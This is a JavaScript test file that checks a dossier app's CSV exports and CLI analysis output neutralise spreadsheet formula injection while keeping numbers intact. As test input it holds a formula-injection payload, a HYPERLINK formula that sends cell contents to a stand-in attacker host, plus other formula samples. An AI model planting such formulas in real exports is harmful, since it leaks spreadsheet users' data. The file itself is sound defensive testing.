// CSV downloads cannot carry spreadsheet formulas (issue 10, item 8): a
// dossier coded =HYPERLINK(...) comes out of the late-list CSV as text
// ('=HYPERLINK...), a dossier coded -1.5 stays a number; and the CLI's
// `dossier analyze` CSV treats a unit code the same way.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { startServer } from './harness.mjs';

let srv;
before(async () => { srv = await startServer(); });
after(async () => { await srv.stop(); });

const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const q = (s) => '"' + s.replace(/"/g, '""') + '"';
const rows =
  'dossier_code,unit_code,procedure_code,channel,received_at,due_at,finished_at,status\n' +
  `${q(evil)},SO-NV,P1,direct,2025-03-03T08:00,2025-03-05,2025-03-12T10:00,finished\n` +
  '-1.5,SO-NV,P1,direct,2025-03-03T08:00,2025-03-05,2025-03-13T10:00,finished\n' +
  '@SUM(A1),SO-NV,P1,direct,2025-03-03T08:00,2025-03-05,2025-03-14T10:00,finished\n';

test('the late-list CSV neutralises formulas and keeps numbers', async () => {
  const office = srv.client();
  await office.login('office');
  const f = new FormData();
  f.append('csrf', await office.csrf());
  f.append('file', new Blob([rows]), 'late.csv');
  let r = await office.request('POST', '/dossiers/import', { body: f });
  assert.equal(r.status, 200, r.text_.slice(0, 300));
  r = await office.get('/dossiers/SO-NV/late?month=2025-03&format=csv');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /text\/csv/);
  const lines = r.text_.trim().split('\n');
  const byCode = (start) => lines.find((l) => l.startsWith(start));
  assert.ok(byCode(`"'=HYPERLINK(`), 'the formula is text:\n' + r.text_);
  assert.equal(byCode(`"'=HYPERLINK(`).split(',P1,')[0], q("'" + evil));
  assert.ok(byCode('"\'@SUM(A1)",'), '@ too:\n' + r.text_);
  assert.ok(byCode('-1.5,'), 'a number stays as it is:\n' + r.text_);
  for (const l of lines) assert.ok(!/^[=+@]/.test(l) && !/^-[^0-9.]/.test(l), 'line starts safely: ' + l);
});

test('dossier analyze CSV neutralises a unit coded as a formula', () => {
  const file = path.join(srv.dir, 'analyze.csv');
  fs.writeFileSync(file, rows.replace(/,SO-NV,/g, ',=1+2,'));
  const out = srv.cli(['dossier', 'analyze', file, '--format', 'csv']);
  const data = out.trim().split('\n').slice(1);
  assert.ok(data.length > 0, out);
  for (const l of data) assert.ok(l.startsWith(`"'=1+2",`), l);
});
